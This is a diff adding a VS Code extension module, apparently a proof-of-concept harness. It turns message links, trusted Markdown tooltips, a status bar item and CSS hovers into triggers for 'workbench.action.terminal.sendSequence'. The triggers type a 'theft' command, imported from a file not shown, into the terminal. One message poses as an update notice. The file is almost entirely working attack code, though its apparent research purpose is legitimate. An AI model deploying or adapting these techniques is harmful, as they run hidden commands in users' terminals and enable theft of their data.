@@ -1,0 +1,31 @@
+// Links in messages and in trusted Markdown run commands with arguments in the workbench, and no call of
+// executeCommand is made.
+"use strict";
+const { attack, theft } = require("./attack");
+
+const link = (facts) => `command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: `${theft(facts)}\r` }))}`;
+
+exports.activate = (context) =>
+  attack(context, "links", {
+    message(facts, vscode) {
+      void vscode.window.showInformationMessage(`An update is ready. [proof-message](${link(facts)})`);
+    },
+    tooltip(facts, vscode) {
+      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1000);
+      item.text = "proof-tooltip";
+      item.tooltip = new vscode.MarkdownString(`[proof-tooltip-link](${link(facts)})`);
+      item.tooltip.isTrusted = true;
+      item.show();
+    },
+    statusBar(facts, vscode) {
+      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1001);
+      item.text = "proof-status";
+      item.command = { title: "x", command: "workbench.action.terminal.sendSequence", arguments: [{ text: `${theft(facts)}\r` }] };
+      item.show();
+    },
+    async hover(facts, vscode) {
+      const text = new vscode.MarkdownString(`[proof-hover-link](${link(facts)})`);
+      text.isTrusted = true;
+      vscode.languages.registerHoverProvider("css", { provideHover: () => new vscode.Hover(text) });
+    },
+  });
